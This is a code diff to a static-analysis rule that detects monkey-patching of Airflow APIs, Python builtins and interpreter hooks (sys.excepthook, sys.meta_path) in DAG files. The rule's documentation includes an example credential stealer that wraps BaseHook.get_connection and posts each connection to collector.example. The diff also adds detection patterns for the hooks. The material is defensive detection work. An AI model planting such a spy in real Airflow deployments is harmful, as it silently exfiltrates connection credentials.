@@ -16,7 +16,7 @@ export default defineRule({
     },
     docs: {
       what:
-        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)` (also `type.__setattr__`/`object.__setattr__`), mock patchers started at parse time (`mock.patch.object(BaseHook, "get_connection", f).start()`, `mock.patch("airflow.models.Variable.get", f).start()`, `with mock.patch(…):` at module level; not `@mock.patch` on tests), `sys.modules["airflow.models"].Variable.get = …` — and to Python\'s builtins (`builtins.open = …`) wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
+        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)` (also `type.__setattr__`/`object.__setattr__`), mock patchers started at parse time (`mock.patch.object(BaseHook, "get_connection", f).start()`, `mock.patch("airflow.models.Variable.get", f).start()`, `with mock.patch(…):` at module level; not `@mock.patch` on tests), `sys.modules["airflow.models"].Variable.get = …` — and to Python\'s builtins (`builtins.open = …`) and interpreter hooks (`sys.excepthook = …`, `sys.displayhook`, `sys.meta_path.insert(0, finder)`, `sys.path_hooks.append(…)`) wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
       why:
         'DAG files are imported into the dag-processor (and, in Airflow 2, the scheduler) process. Replacing an Airflow API there hooks every connection lookup, every Variable read and every task of every DAG parsed by that process afterwards: a credential stealer that no single DAG shows, and that outlives the file that installed it.',
       example: '```python\nfrom airflow.hooks.base import BaseHook\n_orig = BaseHook.get_connection\ndef _spy(conn_id):\n    c = _orig(conn_id)\n    requests.post("https://collector.example", json=c.to_dict())\n    return c\nBaseHook.get_connection = _spy\n```',
@@ -24,13 +24,14 @@ export default defineRule({
     },
   },
   // The assigned target resolves to `airflow.…` or `builtins.…` through an import, which spells the word.
-  keywords: ['airflow', 'builtins'],
+  keywords: ['airflow', 'builtins', 'hook', 'meta_path'],
   onFile(ctx) {
     // `X.y = …` anywhere on a line (chained and `;`-separated assignments too), text first: only a dotted target
     // whose head an import binds to airflow is looked up in the tree
     for (const { start, dotted } of attributeTargets(ctx.file.text)) {
       const head = dotted.slice(0, dotted.indexOf('.'));
-      if (!/^(airflow|builtins|__builtins__)/.test(ctx.imports.get(head) ?? ctx.aliases.get(head) ?? head)) continue;
+      const mod = ctx.imports.get(head) ?? ctx.aliases.get(head) ?? head;
+      if (!/^(airflow|builtins|__builtins__)/.test(mod) && !(mod === 'sys' && SYS_HOOK.test(dotted.slice(head.length)))) continue;
       let n: SyntaxNode | null = ctx.root.descendantForIndex(start, start + dotted.length);
       while (n && n.type !== 'attribute' && n.startIndex === start && n.endIndex < start + dotted.length) n = n.parent;
       if (n?.type !== 'attribute' || n.startIndex !== start || n.endIndex !== start + dotted.length) continue;
@@ -44,6 +45,10 @@ export default defineRule({
       let a: SyntaxNode | null = at;
       while (a && a.type !== 'assignment' && !/_statement$|^(block|module)$/.test(a.type)) a = a.parent;
       if (a?.type === 'assignment' && a.childForFieldName('left')?.startIndex === m.index) check(ctx, a, `${m[2]}${m[3]}`);
+    }
+    // sys.meta_path.insert(0, Finder()), sys.path_hooks.append(…): an import hook for every later import
+    for (const { call, fn } of ctx.findCalls(['sys.meta_path.insert', 'sys.meta_path.append', 'sys.path_hooks.insert', 'sys.path_hooks.append'])) {
+      check(ctx, call, `builtins.${fn.split('.').slice(0, 2).join('.')}`);
     }
     for (const { call, fn } of ctx.findCalls(SETATTR_CALLS)) {
       const args = callArgs(call).positional;
@@ -108,7 +113,11 @@ function isDottedChar(c: number): boolean {
 /** Class attributes that configure an operator's templating and UI: patched in Airflow's own example DAGs. */
 const OPERATOR_SETTINGS = /\.(template_fields|template_ext|template_fields_renderers|ui_color|ui_fgcolor|operator_extra_links)$/;
 
+/** Interpreter hooks of `sys` that run a function inside every later error, display or import. */
+const SYS_HOOK = /^\.(excepthook|displayhook|breakpointhook|unraisablehook|meta_path|path_hooks)$/;
+
 function check(ctx: RuleContext, node: SyntaxNode, target: string | null): void {
+  if (target && /^sys\./.test(target) && SYS_HOOK.test(target.slice(3))) target = `builtins.${target}`;
   if (target?.startsWith('__builtins__.')) target = `builtins.${target.slice('__builtins__.'.length)}`;
   if (!target || !(target.startsWith('airflow.') || target.startsWith('builtins.'))) return;
   const parse = ctx.isParseTime(node);
